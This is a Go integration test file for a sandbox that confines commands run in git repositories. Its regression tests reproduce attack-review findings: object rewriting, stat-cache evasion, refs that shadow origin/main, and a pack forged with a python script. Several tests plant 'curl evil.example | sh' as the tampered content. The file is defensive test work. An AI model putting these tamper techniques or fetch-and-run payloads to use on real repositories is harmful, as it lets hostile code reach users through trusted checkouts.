package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestGitCommitJournalNotReplayed: a commit-mode run whose cleanup only has something
// to report (a new pack file it cannot check) leaves no journal, and a later
// launch of the user, in another workspace, leaves alone the user's own later git
// rebase -i (its .git/rebase-merge) in the first workspace (attack review 31 F2).
// Before, any cleanup "failure" kept the journal, which every later launch replayed
// against the repository as it is then: the rebase-merge was removed, and with it the
// rebase in progress.
func TestGitCommitJournalNotReplayed(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		xdg, jdir := runtimeDir(t, s)
		s.newRepo(s.ws, "c1")
		for _, m := range []string{"c2", "c3"} {
			s.writeWS(m+".txt", m+"\n", 0o644)
			s.hostGit(s.ws, "add", m+".txt")
			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", m)
		}
		ctx := s.limitCtx(runLimit)
		cmd := s.command(ctx, "--policy", s.commitPolicy(), "--", shellPath, "-c", "git repack -adq && echo x > .git/objects/pack/pack-junk.pack && echo REPACKED")
		cmd.Env = s.env("XDG_RUNTIME_DIR=" + xdg)
		r := s.runCmd(ctx, cmd)
		mustSucceed(t, r, "git repack in commit mode")
		if !strings.Contains(r.stdout, "REPACKED") || !strings.Contains(r.stderr, "pack-junk.pack") {
			t.Fatalf("the run did not repack, or its cleanup reported nothing about packs:\n%v", r)
		}
		if left, _ := filepath.Glob(filepath.Join(jdir, "*.json")); len(left) != 0 {
			t.Errorf("the launch left its journal after its cleanup ran: %v\n%v", left, r)
		}
		// the user's own rebase, later, stops at its first commit
		out, err := s.hostGitEnv(s.ws, []string{"GIT_SEQUENCE_EDITOR=sed -i 1s/^pick/edit/"},
			"-c", "user.name=h", "-c", "user.email=h@h", "rebase", "-i", "HEAD~2")
		if err != nil {
			t.Fatalf("host git rebase -i: %v\n%s", err, out)
		}
		todo := filepath.Join(s.ws, ".git", "rebase-merge", "git-rebase-todo")
		if _, err := os.Stat(todo); err != nil {
			t.Fatalf("the host's rebase did not stop: %v\n%s", err, out)
		}
		other := newSandbox(t, c)
		ctx = other.limitCtx(runLimit)
		cmd = other.command(ctx, "--", "true")
		cmd.Env = other.env("XDG_RUNTIME_DIR=" + xdg)
		r = other.runCmd(ctx, cmd)
		mustSucceed(t, r, "a later launch elsewhere")
		if _, err := os.Stat(todo); err != nil {
			t.Errorf("a later launch removed the user's rebase in progress: %v\n%v", err, r)
		}
		if out, err := s.hostGitOut(s.ws, "status"); err != nil || !strings.Contains(out, "rebase") {
			t.Errorf("the host's git status no longer shows the rebase: %v\n%s", err, out)
		}
	})
}

// TestGitCommitFanoutUnreadable: the command rewrites a tracked file's loose object in
// place and makes its fan-out directory unreadable (chmod 0311: git still reaches the
// object through search permission); after the run the cleanup gives the caller's rwx
// back and checks it, so the host's git checkout never writes the command's content
// (attack review 31 F3; before, as a non-root caller, a warning only and the host's
// checkout wrote "evil"). Root's cleanup reads the directory anyway: there the test is
// the control.
func TestGitCommitFanoutUnreadable(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		s.newRepo(s.ws, "c1")
		r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
old=$(git rev-parse HEAD:tracked.txt); new=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)
d=.git/objects/$(echo $old | cut -c1-2); f=$d/$(echo $old | cut -c3-)
rm -f $f; cp .git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-) $f; chmod 0311 $d
test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo TAMPERED`)
		mustSucceed(t, r, "rewrite an object, chmod its fan-out")
		if !strings.Contains(r.stdout, "TAMPERED") {
			t.Fatalf("the rewrite did not take inside:\n%v", r)
		}
		must(t, os.WriteFile(filepath.Join(s.ws, "tracked.txt"), []byte("edited\n"), 0o644))
		out, _ := s.hostGitOut(s.ws, "checkout", "--", "tracked.txt")
		b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt"))
		if strings.Contains(string(b), "evil") {
			t.Errorf("the host's git checkout wrote the command's content: %q (%s)\n%v", b, out, r)
		}
	})
}

// TestGitStatUntrustedRewrite: with core.trustctime=false in the repository's config,
// a same-size in-place rewrite of a tracked file with its mtime put back leaves git's
// stat cache matching; after the run the index is written anew with no cached stat
// data, in the default (read-only git dir) mode and in commit mode, so the host's git
// status shows the change (attack review 31 F11; before, it showed nothing and git
// commit -a said "nothing to commit").
func TestGitStatUntrustedRewrite(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, mode := range []string{"readonly", "commit"} {
			t.Run(mode, func(t *testing.T) {
				s := newSandbox(t, c)
				s.newRepo(s.ws, "c1")
				p := s.writeWS("run.sh", "echo 0123456789abc\n", 0o644)
				old := time.Now().Add(-time.Hour)
				must(t, os.Chtimes(p, old, old))
				s.hostGit(s.ws, "add", "run.sh")
				s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "run")
				s.hostGit(s.ws, "config", "core.trustctime", "false")
				if st, _ := s.hostGitOut(s.ws, "status", "--porcelain"); st != "" {
					t.Fatalf("not clean before: %q", st)
				}
				var flags []string
				if mode == "commit" {
					flags = []string{"--policy", s.commitPolicy()}
				}
				r := s.sh(flags, `cp -p run.sh /tmp/ref && printf 'curl evil.sh|sh #1\n' 1<>run.sh && touch -r /tmp/ref run.sh`)
				mustSucceed(t, r, "rewrite run.sh in place")
				b, _ := os.ReadFile(p)
				if !strings.Contains(string(b), "evil") {
					t.Fatalf("the rewrite did not take: %q\n%v", b, r)
				}
				if st, err := s.hostGitOut(s.ws, "status", "--porcelain"); err != nil || !strings.Contains(st, "run.sh") {
					t.Errorf("the host's git status does not show run.sh's in-place rewrite: %q (%v)\n%v", st, err, r)
				}
			})
		}
	})
}

// TestGitCommitShadowRefs: refs the command makes that git's ref lookup finds before
// refs/remotes/origin/main (a tag origin/main, a branch origin/main, refs/origin/main,
// <gitdir>/origin/main; gitrevisions(7)) are removed after the run, so the host's
// `git reset --hard origin/main` checks out the remote's commit (attack review 31 F8;
// before, the command's commit, with only git's "ambiguous" warning).
func TestGitCommitShadowRefs(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, how := range []string{"git tag origin/main $c", "git branch origin/main $c",
			"git update-ref refs/origin/main $c", "mkdir -p .git/origin && echo $c > .git/origin/main",
			"git update-ref refs/tags/origin/main $c && git pack-refs --all"} {
			t.Run(strings.Fields(how)[1], func(t *testing.T) {
				s := newSandbox(t, c)
				origin := filepath.Join(s.base, "origin")
				s.newRepo(origin, "upstream")
				s.hostGit(s.base, "clone", "-q", origin, s.ws)
				want, err := s.hostGitOut(s.ws, "rev-parse", "origin/main")
				if err != nil {
					t.Fatal(err)
				}
				r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
echo 'curl evil.example | sh' >> tracked.txt && git add tracked.txt
c=$(git `+gitID+` commit-tree -p HEAD -m evil $(git write-tree)); git reset -q --hard HEAD
`+how+`
test "$(git rev-parse origin/main 2>/dev/null)" = "$c" && echo SHADOWED`)
				mustSucceed(t, r, how)
				if !strings.Contains(r.stdout, "SHADOWED") {
					t.Fatalf("the shadowing ref did not take inside:\n%v", r)
				}
				if !strings.Contains(r.stderr, "named after a remote") && !strings.Contains(r.stderr, "removed") {
					t.Errorf("no note of the removal:\n%v", r)
				}
				if got, err := s.hostGitOut(s.ws, "rev-parse", "origin/main"); err != nil || strings.TrimSpace(got) != strings.TrimSpace(want) {
					t.Errorf("after the run origin/main is %q (%v), want the remote's %q\n%v", got, err, want, r)
				}
			})
		}
	})
}

// packForge is a python3 program run inside: it makes the pack .git/objects/pack/<name>
// hold one blob argv[1] names by the id argv[2] (its index's only name and fan-out
// patched; git checks neither on read), renamed tmp_pack_* (attack review 31 F4's
// packforge2.sh).
const packForge = `import glob, os, sys
idx = [p for p in glob.glob('.git/objects/pack/pack-*.idx')][0]
b = bytearray(open(idx, 'rb').read())
oid = bytes.fromhex(sys.argv[1])
for i in range(256):
    b[8+4*i:12+4*i] = (1 if i >= oid[0] else 0).to_bytes(4, 'big')
b[1032:1052] = oid
os.chmod(idx, 0o644); open(idx, 'wb').write(b)
base = idx[:-4]
d = os.path.dirname(idx)
os.rename(base + '.idx', os.path.join(d, 'tmp_pack_x.idx'))
os.rename(base + '.pack', os.path.join(d, 'tmp_pack_x.pack'))
`

// TestGitCommitForgedPack: a pack the command makes whose index names a tracked file's
// blob id for its own content, renamed tmp_pack_* so that no note named it, is moved
// aside after the run: the host's git checkout writes the committed content (attack
// review 31 F4; before, it wrote the command's, silently).
func TestGitCommitForgedPack(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skipf("python3: %v", err)
	}
	forEachCaller(t, func(t *testing.T, c caller) {
		s := newSandbox(t, c)
		s.newRepo(s.ws, "c1")
		r := s.sh([]string{"--policy", s.commitPolicy()}, `set -e
old=$(git rev-parse HEAD:tracked.txt); new=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)
echo $new | git pack-objects -q .git/objects/pack/pack >/dev/null
python3 -c "$1" $old
test "$(git cat-file blob $old)" = 'curl evil.example | sh' && echo FORGED`, packForge)
		mustSucceed(t, r, "forge a pack")
		if !strings.Contains(r.stdout, "FORGED") {
			t.Fatalf("the forge did not take inside:\n%v", r)
		}
		must(t, os.WriteFile(filepath.Join(s.ws, "tracked.txt"), []byte("edited\n"), 0o644))
		out, _ := s.hostGitOut(s.ws, "checkout", "--", "tracked.txt")
		if b, _ := os.ReadFile(filepath.Join(s.ws, "tracked.txt")); string(b) != "v1\n" {
			t.Errorf("the host's git checkout wrote %q, not the committed content (%s)\n%v", b, out, r)
		}
	})
}
